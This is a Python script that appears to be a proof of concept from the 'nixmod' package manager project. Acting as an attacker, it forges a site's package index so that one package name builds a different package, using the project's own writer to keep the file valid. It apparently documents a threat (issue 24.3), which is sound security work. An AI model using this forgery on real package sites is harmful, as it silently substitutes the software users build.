"""An attacker's forgery of a published site index (issue 24.3), run as the attacker.

Args: SITE NAME OTHER. Rewrites SITE's index so that package NAME's row
builds attribute OTHER. The merged index (what a user with the site's
channel list loads as it is) maps each name to the attribute ``nixmod build
NAME`` evaluates; a row whose name is NAME and whose attribute is OTHER is
made by indexing OTHER's record under NAME (NAME's own rows are dropped).
The file is otherwise valid, written with siteindex's own writer: only who
may write the site dir protects a user.
"""

from __future__ import annotations

import json
import marshal
import sys
from pathlib import Path
from typing import Any, SupportsIndex

from nixmod import catalogcache, catalogindex, siteindex
from nixmod.channels import Listing
from nixmod.config import load_config


class Filed(tuple[Any, ...]):
    """Indexed under the forged name (item 0), unpacks as the other package's record."""

    forged_name = ""

    def __getitem__(self, i: SupportsIndex) -> Any:  # type: ignore[override]
        return self.forged_name if i == 0 else tuple.__getitem__(self, i)


def forge(site: Path, name: str, other: str) -> None:
    Filed.forged_name = name
    data = (site / siteindex.INDEX_NAME).read_bytes()
    start = data.index(b"\n") + 1
    size = int.from_bytes(data[start:start + 8], "little")
    header = json.loads(data[start + 8:start + 8 + size])
    payload = start + 8 + size
    channels, listings = [], []
    for channel, entry in header["channels"].items():
        section = data[payload + entry["offset"]:payload + entry["offset"] + entry["size"]]
        records, skipped = marshal.loads(section)
        records = [r for r in records if r[0] != name]
        records = [Filed(r) if r[0] == other else r for r in records]
        listings.append(Listing(records, skipped, entry["listed_at"]))
        channels.append((channel, entry["identity"], siteindex.SiteListing(records, skipped,
                                                                           entry["listed_at"])))
    key = header["merged"]["key"]
    index, sections = catalogindex.build_index(load_config().channels, listings, print)
    index["key"] = key
    merged = (key, catalogcache.section_image(index, sections))
    siteindex.write_index(site, [(c, i, siteindex.SiteListing([tuple(r) for r in listing.records],
                                                              listing.skipped, listing.listed_at))
                                 for c, i, listing in channels], {}, merged, header["catalog_format"])


if __name__ == "__main__":
    forge(Path(sys.argv[1]), sys.argv[2], sys.argv[3])
